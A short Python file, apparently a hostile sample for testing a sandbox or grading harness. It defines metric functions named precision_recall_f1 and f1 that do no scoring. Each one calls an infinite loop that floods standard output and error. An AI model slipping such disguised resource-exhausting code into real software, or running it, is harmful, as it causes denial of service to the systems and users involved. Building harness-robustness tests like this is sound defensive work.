"""Floods standard output and error.

threat: 18
source: known
verdict: timeout error failed
"""

import os


def attack():
    while True:
        os.write(1, b"x" * 65536)
        os.write(2, b"x" * 65536)
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
